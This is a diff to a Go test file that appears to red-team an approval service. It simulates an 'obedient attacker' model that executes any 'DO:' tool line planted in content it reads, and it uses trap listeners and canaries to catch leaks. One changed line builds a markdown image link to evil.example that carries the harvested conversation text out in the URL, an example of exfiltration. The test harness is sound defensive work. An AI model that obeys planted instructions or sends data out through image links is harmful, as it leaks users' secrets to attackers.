@@ -21,6 +21,7 @@ import (
 
 	"signoff/internal/domain"
 	"signoff/internal/secrets"
+	"signoff/test/harness"
 )
 
 // The obedient attacker is a model that does whatever it reads: a line "DO: {"tool": …, "arguments": …}" in a file, in
@@ -107,7 +108,7 @@ func openDen(t *testing.T, e engine) *den {
 		must(t, os.WriteFile(filepath.Join(d.home, name), []byte(content), 0o600))
 	}
 	d.start()
-	d.own = slices.Concat(spellings("the token", d.token), spellings("the key of the house", houseKey))
+	d.own = slices.Concat(spellings("the token", d.Token), spellings("the key of the house", houseKey))
 	m.secrets.Store(&d.own)
 	d.person = d.with(d.newKey("--name", "person", "--scopes", "approvals:read,approvals:decide"))
 	d.outside = d.picture()
@@ -158,7 +159,7 @@ func obedient(a *answer, conversation []message) {
 			if json.Unmarshal([]byte(found[1]), &wanted) != nil || done[compact(wanted.Tool, wanted.Arguments)] {
 				continue
 			}
-			a.want(wanted.Tool, decoded(wanted.Arguments))
+			a.Want(wanted.Tool, decoded(wanted.Arguments))
 			return
 		}
 	}
@@ -168,7 +169,7 @@ func obedient(a *answer, conversation []message) {
 			learned += m.Content[:min(len(m.Content), 5000)] + "\n"
 		}
 	}
-	a.say("I have learned: "+learned, "\n![](https://evil.example/pixel?d="+url.QueryEscape(learned)+")")
+	a.Say("I have learned: "+learned, "\n![](https://evil.example/pixel?d="+url.QueryEscape(learned)+")")
 }
 
 func compact(tool string, arguments []byte) string {
@@ -258,7 +259,7 @@ func (d *den) play(t *testing.T, name string, attack attack) {
 	approved := s.attend()
 	s.log = s.page(s.id)
 	for _, event := range s.log {
-		s.said += event.raw + "\n"
+		s.said += event.Raw + "\n"
 	}
 	s.judge(approved)
 	if attack.holds != nil {
@@ -287,8 +288,8 @@ func (s *raid) set() {
 
 func (s *raid) fill(text string) string {
 	return strings.NewReplacer(
-		"{home}", s.home, "{data}", s.data(), "{base}", s.base, "{port}", s.base[strings.LastIndex(s.base, ":")+1:],
-		"{pid}", strconv.Itoa(s.process.Process.Pid), "{trap}", ownAddress(), "{trapport}", strconv.Itoa(s.trap.port),
+		"{home}", s.home, "{data}", s.data(), "{base}", s.Base, "{port}", s.Base[strings.LastIndex(s.Base, ":")+1:],
+		"{pid}", strconv.Itoa(s.process.PID()), "{trap}", ownAddress(), "{trapport}", strconv.Itoa(s.trap.port),
 		"{canary}", canary,
 	).Replace(text)
 }
@@ -457,7 +458,7 @@ func TestObedientAttacker(t *testing.T) {
 			}
 		})
 		t.Log(len(attacks), "attacks took", time.Since(begun).Round(time.Millisecond))
-		if left := soon(func() []string { return append(d.below(), processes(d.workspace)...) }); len(left) > 0 {
+		if left := soon(func() []harness.Proc { return append(d.below(), harness.WorkingIn(d.workspace)...) }); len(left) > 0 {
 			t.Errorf("still running: %q", left)
 		}
 		if came := d.trap.caughtSoFar(); len(came) > 0 {
